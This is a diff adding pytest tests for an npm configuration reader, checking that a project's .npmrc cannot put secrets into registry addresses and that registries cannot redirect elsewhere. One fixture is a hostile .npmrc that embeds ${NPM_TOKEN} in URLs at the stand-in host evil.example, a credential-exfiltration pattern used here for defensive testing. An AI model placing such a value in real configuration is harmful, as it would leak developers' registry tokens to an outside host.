@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from terra.errors import InvalidDocumentError, UsageError
+from terra.errors import InvalidDocumentError, PolicyError, UsageError
 from terra.ports import Command, Outcome
 from terra.system.npm_ini import expand, read_lines
 from terra.system.npm_registry import NpmRegistries, NpmRegistry, how_to_log_in
@@ -185,6 +185,75 @@ def test_a_project_reads_only_npms_own_variables(machine: Machine):
     said = "names the variable `AWS_SECRET_ACCESS_KEY`, which is not read"
     only = "a project's file reads only names that begin with `NPM_` or `NODE_`"
     assert set(machine.reporter.warnings) == {f"`{machine.project / '.npmrc'}` {said}: {only}"}
+
+
+def test_a_project_names_no_variable_in_an_address(machine: Machine):
+    machine.environment["NPM_TOKEN"] = "s3cret"
+    machine.own(
+        "registry=https://evil.example/${NPM_TOKEN}/\n//evil.example/${NPM_TOKEN}/:_authToken=x\n"
+        "@${NPM_TOKEN}:registry=https://evil.example/"
+    )
+    with pytest.raises(UsageError, match="names a variable that is not there") as caught:
+        machine.registry()
+    assert caught.value.hint is not None
+    assert "only your own `.npmrc`" in caught.value.hint
+    assert "s3cret" not in repr((caught.value.message, [*machine.load().settings]))
+    assert "s3cret" not in str({each.text for each in machine.load().settings.values()})
+    assert machine.shown("https://evil.example/s3cret/x") is None
+    only = "a project's file reads variables only in a token, a user name or a password"
+    said = f"`{machine.project / '.npmrc'}` names the variable `NPM_TOKEN`, which is not read: {only}"
+    assert set(machine.reporter.warnings) == {said}
+
+
+@pytest.mark.parametrize("who", ["user", "environment"])
+def test_the_user_names_variables_in_addresses(machine: Machine, who: str):
+    machine.environment["HOST"] = "h.example"
+    if who == "user":
+        machine.user("registry=https://${HOST}/\n//${HOST}/:_authToken=T")
+    else:
+        machine.environment |= {"npm_config_registry": "https://${HOST}/", "npm_config_//h.example/:_authToken": "T"}
+    assert machine.registry().authorization("https://h.example/x") == "Bearer T"
+
+
+def test_a_project_reads_a_name_and_a_password(machine: Machine):
+    machine.environment |= {"NPM_USER": "me", "NPM_PASSWORD": PASSWORD}
+    machine.own("//h.example/:username=${NPM_USER}\n//h.example/:_password=${NPM_PASSWORD}")
+    assert machine.shown("https://h.example/x") == BASIC
+
+
+@pytest.mark.parametrize("path", ["/".join("x" * 3000), "x" * 20000, "/" * 20000])
+def test_an_address_without_end_is_refused(machine: Machine, path: str):
+    machine.user("//h.example/:_authToken=T")
+    assert machine.shown(f"https://h.example/{path[:4000]}") == "Bearer T"
+    with pytest.raises(UsageError, match="too long: expected 4096 characters at most, got"):
+        machine.shown(f"https://h.example/{path}")
+
+
+def test_where_no_project_has_a_say_its_file_is_not_read(machine: Machine):
+    machine.user("registry=https://user.example/")
+    machine.own("registry=https://evil.example/\n//user.example/:_authToken=T")
+    found = NpmRegistries(machine.environment, None, machine, machine.reporter).find("a")
+    assert (found.url, found.authorization(found.url)) == ("https://user.example/", None)
+
+
+@pytest.mark.parametrize(
+    ("registry", "answered", "is_own"),
+    [
+        ("https://h.example/npm/", "https://h.example/elsewhere", True),
+        ("http://h.example/", "https://h.example/x", True),
+        ("http://h.example:8080/", "http://h.example:8080/x", True),
+        ("https://h.example/", "https://o.example/x", False),
+        ("https://h.example/", "https://sub.h.example/x", False),
+        ("http://h.example:8080/", "http://h.example:8081/x", False),
+    ],
+)
+def test_a_registry_answers_for_itself(machine: Machine, registry: str, answered: str, is_own: bool):
+    found = machine.registry(address=registry)
+    if is_own:
+        found.require_own(answered)
+        return
+    with pytest.raises(PolicyError, match="leads to another registry"):
+        found.require_own(answered)
 
 
 def test_the_users_own_file_reads_every_variable(machine: Machine):
